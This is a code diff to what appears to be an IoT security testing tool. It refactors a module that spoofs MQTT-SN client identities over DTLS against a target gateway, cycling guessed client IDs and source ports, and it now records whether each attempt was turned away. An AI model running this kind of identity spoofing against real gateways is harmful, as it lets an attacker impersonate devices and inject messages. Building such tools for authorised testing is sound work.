@@ -56,14 +56,14 @@ static const char *const outcome_text[NBS_MQTTSN_OUTCOME__COUNT] = {
 };
 
 static void
-try_over(struct spoof_try *try, const char *outcome)
+try_over(struct spoof_try *try, bool turned_away, const char *outcome)
 {
 	struct spoof *spoof = try->spoof;
 
 	if (try->over)
 		return;
 	try->over = true;
-	spoof->env.ended(spoof->env.arg, try->n, outcome);
+	spoof->env.ended(spoof->env.arg, try->n, turned_away, outcome);
 	/* The station is at work below us: it is freed from an event of its own. */
 	if (!nbs_timer_armed(&spoof->sweep))
 		(void)nbs_timer_arm(spoof->env.engine, &spoof->sweep, 0);
@@ -72,8 +72,10 @@ try_over(struct spoof_try *try, const char *outcome)
 static void
 try_done(void *arg, uint32_t token, enum nbs_mqttsn_outcome outcome)
 {
+	bool turned_away = outcome == NBS_MQTTSN_REJECTED || outcome == NBS_MQTTSN_SESSION_LOST;
+
 	(void)token;
-	try_over(arg, outcome_text[outcome]);
+	try_over(arg, turned_away, outcome_text[outcome]);
 }
 
 static void
@@ -81,8 +83,8 @@ try_transport_closed(void *arg, enum nbs_dtls_reason reason)
 {
 	char text[64];
 
-	(void)snprintf(text, sizeof text, "dtls-%s", nbs_dtls_reason_str(reason));
-	try_over(arg, text);
+	(void)snprintf(text, sizeof text, "DTLS %s", nbs_dtls_reason_str(reason));
+	try_over(arg, reason == NBS_DTLS_ALERT || reason == NBS_DTLS_PEER_CLOSE, text);
 }
 
 static const struct nbs_station_ops try_ops = {
@@ -167,6 +169,12 @@ try_credentials(struct spoof_try *try, struct nbs_dtls_client_config *dtls)
 	}
 }
 
+static uint16_t
+try_port(unsigned n)
+{
+	return (uint16_t)(FIRST_PORT + n % PORT_COUNT);
+}
+
 static enum nbs_status
 try_station(struct spoof_try *try)
 {
@@ -174,7 +182,7 @@ try_station(struct spoof_try *try)
 	struct nbs_dtls_client_config dtls;
 	struct nbs_station_config config = {
 	    .host = env->host,
-	    .local_port = (uint16_t)(FIRST_PORT + try->n % PORT_COUNT),
+	    .local_port = try_port(try->n),
 	    .gateway = env->target,
 	    .mqttsn = {.client_id = try->client_id,
 		       .topic = try->topic,
@@ -193,41 +201,42 @@ try_station(struct spoof_try *try)
 	return nbs_station_new(env->engine, &config, &try_ops, try, &try->station);
 }
 
-static enum nbs_status
-try_start(struct spoof *spoof)
+/* Announces the attempt, then makes it; one that cannot be made is told as such. */
+static void
+try_start(struct spoof *spoof, struct spoof_try *try)
 {
-	struct spoof_try *try = calloc(1, sizeof *try);
+	const struct nbs_attack_env *env = &spoof->env;
+	struct nbs_endpoint from = {.port = try_port(try->n)};
 	uint8_t payload[PAYLOAD_MAX];
 	enum nbs_status status;
 
-	if (try == NULL)
-		return NBS_E_NOMEM;
-	try->spoof = spoof;
-	try->n = spoof->n;
-	status = spoof->env.guess(spoof->env.arg, try->n, try->client_id, sizeof try->client_id);
-	if (status == NBS_OK) {
-		try_topic(try);
-		status = try_station(try);
-	}
-	if (status != NBS_OK) {
-		free(try);
-		return status;
-	}
-	try->next = spoof->tries;
-	spoof->tries = try;
-	spoof->env.begun(spoof->env.arg, try->n, try->client_id,
-			 (struct nbs_endpoint){.port = nbs_station_port(try->station)});
-	return nbs_station_publish(try->station, try->n, payload,
-				   try_payload(try, payload, sizeof payload));
+	env->begun(env->arg, try->n, try->client_id, from);
+	try_topic(try);
+	status = try_station(try);
+	if (status == NBS_OK)
+		status = nbs_station_publish(try->station, try->n, payload,
+					     try_payload(try, payload, sizeof payload));
+	if (status != NBS_OK)
+		try_over(try, false, "not made");
 }
 
 static void
 spoof_next(void *arg)
 {
 	struct spoof *spoof = arg;
+	const struct nbs_attack_env *env = &spoof->env;
+	struct spoof_try *try = calloc(1, sizeof *try);
 
-	(void)try_start(spoof);
-	spoof->n++;
+	if (try == NULL)
+		return; /* no memory, no further attempts */
+	try->spoof = spoof;
+	try->n = spoof->n++;
+	try->next = spoof->tries;
+	spoof->tries = try;
+	if (env->guess(env->arg, try->n, try->client_id, sizeof try->client_id) == NBS_OK)
+		try_start(spoof, try);
+	else
+		try->over = true;
 	if (spoof->n < spoof->env.attempts)
 		(void)nbs_timer_arm(spoof->env.engine, &spoof->next_try, spoof->env.period_ns);
 }
